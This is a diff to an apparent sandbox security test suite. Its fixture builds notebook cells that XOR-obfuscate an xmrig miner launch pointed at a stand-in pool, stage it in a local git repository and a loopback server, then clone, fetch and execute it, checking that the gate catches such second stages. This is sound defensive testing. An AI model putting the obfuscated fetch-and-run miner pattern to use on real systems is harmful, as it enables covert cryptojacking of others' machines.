@@ -43,13 +43,14 @@ function minerProgram() {
   return Buffer.concat([out, words]);
 }
 
-/** Where others keep what is cloned and fetched: a repository, and a server on the sandbox's loopback. A key that is known only at run time keeps both from being read with the cell. */
+/** Where others keep what is cloned and fetched: a repository outside the home, where it would be seen before it is cloned, and a server on the
+ * sandbox's loopback. A key that is known only at run time keeps both from being read with the cell. */
 function elsewhere() {
   const hidden = (bytes) => `bytes(c ^ key for c in ${JSON.stringify([...bytes].map((byte) => byte ^ 7))})`;
   const script = "import os\nos.system('./xmrig -o stratum+tcp://pool.example.org:3333 -u me --donate-level 1')\n";
-  return ["import http.server, os, threading, time", "key = int(time.time() > 0) * 7", "os.makedirs('there')",
-    `open('there/run.py', 'wb').write(${hidden(Buffer.from(script))})`, `held = ${hidden(minerProgram())}`,
-    "!cd there && git init -q . && git add . && git -c user.name=a -c user.email=a@example.org commit -qm a",
+  return ["import http.server, os, threading, time", "key = int(time.time() > 0) * 7", "os.makedirs('/tmp/there')",
+    `open('/tmp/there/run.py', 'wb').write(${hidden(Buffer.from(script))})`, `held = ${hidden(minerProgram())}`,
+    "!cd /tmp/there && git init -q . && git add . && git -c user.name=a -c user.email=a@example.org commit -qm a",
     "class Page(http.server.BaseHTTPRequestHandler):", "    def do_GET(self):", "        self.send_response(200)", "        self.end_headers()", "        self.wfile.write(held)",
     "    def log_message(self, *words):", "        pass", "server = http.server.HTTPServer(('127.0.0.1', 0), Page)",
     "threading.Thread(target=server.serve_forever, daemon=True).start()"].join("\n");
@@ -178,7 +179,7 @@ export const gate = {
 
   async "a second stage, cloned or fetched, is asked about once it lies there, and stopped where the operator turned that on"({ profile }) {
     const me = await profile();
-    const id = await me.make("Course tools", [elsewhere(), "!git clone -q there tool && python3 tool/run.py; rm -rf tool/.git; echo the clone went on",
+    const id = await me.make("Course tools", [elsewhere(), "!git clone -q /tmp/there tool && python3 tool/run.py; rm -rf tool/.git; echo the clone went on",
       "import urllib.request\ndata = urllib.request.build_opener(urllib.request.ProxyHandler({})).open(f'http://127.0.0.1:{server.server_port}/x').read()\nopen('report-tool', 'wb').write(data)",
       "!chmod +x report-tool && ./report-tool --quiet"]);
     const book = await me.notebook(id);
